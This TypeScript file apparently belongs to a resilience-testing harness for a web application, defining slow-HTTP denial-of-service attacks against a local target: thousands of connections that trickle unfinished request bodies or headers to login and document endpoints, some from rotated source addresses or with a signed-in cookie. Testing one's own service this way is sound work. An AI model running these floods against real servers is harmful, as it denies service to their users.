import { addressOf, ofKind, type Attack } from './attack.ts';
import type { Target } from './target.ts';

/** Each needs two descriptors of this machine, which `ulimit -n` must allow. */
const connections = 3_000;
/** How many to open together. More would only wait for each other's handshakes. */
const batch = 100;
const betweenBytes = 1_000;

type Head = (target: Target) => string;

/** Keeps connections open and sends a byte a second on each. */
const trickle =
  (head: Head, from?: (index: number) => string): Attack['run'] =>
  async (target) => {
    const sockets: ReturnType<Target['open']>[] = [];
    while (sockets.length < connections && !target.stopping.aborted) {
      const opened = Array.from({ length: batch }, (_, index) => target.open(from?.(sockets.length + index)));
      for (const socket of opened) {
        socket.write(head(target));
        socket.resume();
        const count = (name: string) => (target.tally[name] = (target.tally[name] ?? 0) + 1);
        socket.once('connect', () => count('opened'));
        socket.once('data', (bytes) => count(/^HTTP\/1.1 (\d+)/.exec(bytes.toString())?.[1] ?? 'data'));
        socket.once('close', () => !target.stopping.aborted && count('closed by the server'));
      }
      sockets.push(...opened);
      await new Promise((done) => setTimeout(done, 50));
    }
    while (!target.stopping.aborted) {
      for (const socket of sockets) if (socket.writable) socket.write(' ');
      await new Promise((done) => setTimeout(done, betweenBytes));
    }
  };

const post = (path: string): string =>
  `POST ${path} HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\nContent-Length: 1000\r\n\r\n{`;

export const slowAttacks = ofKind('slow', [
  {
    name: `${connections} bodies that never end`,
    who: 'nobody',
    run: trickle(() => post('/api/auth/login')),
  },
  {
    name: `${connections} bodies that never end, from 250 addresses`,
    who: 'nobody',
    run: trickle(
      () => post('/api/auth/login'),
      (index) => addressOf(index % 250),
    ),
  },
  {
    name: `${connections} heads that never end`,
    who: 'nobody',
    run: trickle(() => 'GET / HTTP/1.1\r\nHost: localhost\r\nX-Slow: '),
  },
  {
    name: `${connections} bodies that never end, signed in`,
    who: 'viewer',
    run: trickle(
      (target) =>
        `PUT /api/documents/${target.world.documentIds[0]} HTTP/1.1\r\nHost: localhost\r\nCookie: ${target.cookie()}\r\n` +
        'Content-Type: application/json\r\nContent-Length: 1000\r\n\r\n{',
    ),
  },
  { name: `${connections} connections that say nothing`, who: 'nobody', run: trickle(() => '') },
]);
